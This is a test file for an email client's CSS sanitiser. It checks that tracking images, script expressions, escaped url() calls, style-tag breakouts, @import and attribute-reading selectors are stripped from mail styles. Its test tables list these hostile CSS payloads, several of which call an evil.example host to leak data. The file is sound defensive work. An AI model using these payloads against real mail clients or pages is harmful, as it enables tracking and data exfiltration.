import { describe, expect, test } from "vitest";
import type { FramePolicy } from "#renderer/components/mail-html/addresses.ts";
import { filterDeclarations, filterStyleSheet } from "#renderer/components/mail-html/css-filter.ts";

const BLOCKED: FramePolicy = { remoteImages: false, inlineImages: new Map([["bg", "blob:bg"]]) };
const ALLOWED: FramePolicy = { ...BLOCKED, remoteImages: true };
const nothing = { css: "", blocked: 0 };

describe("declarations", () => {
  test("what styles a mail passes through", () => {
    const css = "color: #333; font: 14px/1.4 Arial, sans-serif; margin:0 auto; mso-line-height-rule:exactly";
    expect(filterDeclarations(css, BLOCKED)).toEqual({
      css: "color: #333; font: 14px/1.4 Arial, sans-serif; margin:0 auto; mso-line-height-rule:exactly",
      blocked: 0,
    });
  });

  test.each([
    ["background:url(https://x.example/a.png)", 'background:url("https://x.example/a.png")'],
    ["background-image: URL('http://x.example/a.png')", 'background-image: url("https://x.example/a.png")'],
    ['background:red url( "//x.example/a.png" ) no-repeat', 'background:red url("https://x.example/a.png") no-repeat'],
  ])("%j is held back, and restored once pictures are asked for", (css, shown) => {
    expect([filterDeclarations(css, BLOCKED), filterDeclarations(css, ALLOWED)]).toEqual([
      { css: "", blocked: 1 },
      { css: shown, blocked: 0 },
    ]);
  });

  test("a picture of the mail itself is kept", () => {
    expect(filterDeclarations("background:url(cid:bg)", BLOCKED)).toEqual({
      css: 'background:url("blob:bg")',
      blocked: 0,
    });
  });

  test.each([
    ["a script in an old engine", "width: expression(alert(1))"],
    ["the same in disguise", "width: exp/**/ression(alert(1))"],
    ["a binding", "-moz-binding: url(https://evil.example/x.xml#a)"],
    ["a behaviour", "behavior: url(#default#time2)"],
    ["a script address", "background: url(javascript:alert(1))"],
    ["an escaped script address", "background: url(\\6a avascript:alert(1))"],
    ["an escaped url", "background: \\75 rl(https://evil.example/leak)"],
    ["an escaped url in upper case", "background: \\55\\52\\4c(https://evil.example/leak)"],
    ["an address with an escape inside", "background: url(https://evil.exam\\70 le/leak)"],
    ["image-set with a bare string", 'background: image-set("https://evil.example/leak" 1x)'],
    ["image-set around url", "background: image-set(url(https://evil.example/leak) 1x)"],
    ["image()", 'background: image("https://evil.example/leak")'],
    ["cross-fade", "background: cross-fade(url(https://evil.example/leak), red)"],
    ["markup", "color: red</style><script>alert(1)</script>"],
    ["markup in a string", 'content: "</style>"'],
    ["what leaves the flow of the page", "position: fixed"],
    ["the same in disguise", "pos\\69tion:fi/**/xed"],
    ["a height by the window", "height: 100vh"],
    ["a height by the window in a sum", "min-height: calc(50dvh + 3px)"],
    ["a block", "color: red } body { background: blue"],
  ])("%s is left out", (_what, css) => {
    const filtered = filterDeclarations(css, ALLOWED).css;
    expect(filtered.replace(/^color: red$/u, "")).toBe("");
  });

  test.each(["cursor", "filter", "mask-image", "clip-path", "shape-outside", "offset-path", "--own", "-webkit-mask"])(
    "after pictures were asked for, %s still fetches nothing",
    (property) => {
      expect(filterDeclarations(`${property}: url(https://a.example/x.png)`, ALLOWED)).toEqual(nothing);
    },
  );

  test.each(["100cqh", "50cqb", "1cqmin", "9CQMAX", "10\\63qh"])(
    "a height of %s, which may grow for ever",
    (height) => {
      expect(filterDeclarations(`min-height: ${height}`, ALLOWED)).toEqual(nothing);
    },
  );

  test.each([
    "columns: 2",
    "column-count: 3",
    "display: grid",
    "position: absolute",
    "z-index: 9",
    "transform: scale(99)",
    "animation: a 1s",
    "margin-top: -999px",
    "color: var(--a)",
    "width: attr(x px)",
    "--own: red",
    "all: unset",
    "background: url(https://a.example/x.png) paint(x)",
    "background: url(https://a.example/x.png) -webkit-image-set('https://evil.example/y' 1x)",
  ])("what mail has no use for is left out: %s", (css) => {
    expect(filterDeclarations(css, ALLOWED).css).toBe("");
  });

  test.each([
    "display: none; max-height: 0; overflow: hidden; mso-hide: all; visibility: hidden; opacity: 0",
    "display:inline-block !important; width:calc(100% - 20px); max-width:600px; vertical-align:top",
    "background-size: cover; background-position: center center; background-repeat: no-repeat; border-radius: 8px 8px 0 0",
    "-webkit-text-size-adjust: 100%; -ms-text-size-adjust: none; mso-table-lspace: 0pt; font-family: 'Segoe UI', Arial",
    "background: -webkit-linear-gradient(top, #fff 0%, rgba(0,0,0,.5) 100%); box-shadow: 0 1px 3px rgba(0,0,0,.2)",
    "font-size: clamp(14px, 2em, 20px); letter-spacing: -0.5px; padding: 0 5%; border-left: 2px solid #ccc",
    "display: -webkit-box; display: flex; flex-wrap: wrap; justify-content: space-between; gap: 8px",
  ])("the looks of newsletters stay: %s", (css) => {
    expect(filterDeclarations(css, BLOCKED).css.replaceAll("; ", ";")).toBe(css.replaceAll("; ", ";"));
  });

  test("a semicolon in an address or a string is part of it", () => {
    const url = "data:image/gif;base64,R0lGOD";
    expect(filterDeclarations(`background:url(${url}); content:";"; color:red`, BLOCKED)).toEqual({
      css: `background:url("${url}"); content:";"; color:red`,
      blocked: 0,
    });
  });

  test("an address that begins in a comment is not seen", () => {
    expect(filterDeclarations("color:red/*;background:url(https://x.example)*/", BLOCKED)).toEqual({
      css: "color:red",
      blocked: 0,
    });
  });

  test("endless text is not read", () => {
    expect(filterDeclarations(`color:red;${"a".repeat(1_000_001)}`, BLOCKED)).toEqual(nothing);
  });
});

describe("style sheets", () => {
  test("rules keep what is harmless, also inside of @media", () => {
    const css = `<!-- p { color: red; position: fixed } @media (max-width: 600px) { .a, td > b { width: 100% } } -->`;
    expect(filterStyleSheet(css, BLOCKED)).toEqual({
      css: "p { color: red }\n@media (max-width: 600px) {\n.a, td > b { width: 100% }\n}",
      blocked: 0,
    });
  });

  test.each([
    ["an import", "@import url(https://evil.example/x.css);"],
    ["an import by string", '@import "https://evil.example/x.css";'],
    ["an import in disguise", "@\\69mport url(https://evil.example/x.css);"],
    ["a font", "@font-face { font-family: a; src: url(https://evil.example/a.woff) }"],
    ["an animation", "@keyframes a { from { color: red } }"],
    ["a namespace", "@namespace url(https://evil.example);"],
    ["an unclosed import", "@import url(https://evil.example/x.css)"],
    ["markup in a selector", "a</style><script>{ color: red }"],
  ])("%s is left out", (_what, css) => {
    expect(filterStyleSheet(css, ALLOWED)).toEqual(nothing);
  });

  test("reading out an attribute by address is held back with the other pictures", () => {
    const css = 'input[value^="a"] { background: url(https://evil.example/a) } p { color: red }';
    expect(filterStyleSheet(css, BLOCKED)).toEqual({ css: "p { color: red }", blocked: 1 });
  });

  test("a rule after an unclosed string ends where browsers end it", () => {
    expect(filterStyleSheet('p { content: "open\n; color: red } b { color: blue }', BLOCKED).css).toContain(
      "b { color: blue }",
    );
  });

  test("nesting beyond what occurs is cut off", () => {
    const deep = `${"@media all {".repeat(20)} p { color: red } ${"}".repeat(20)}`;
    expect(filterStyleSheet(deep, BLOCKED)).toEqual(nothing);
  });
});
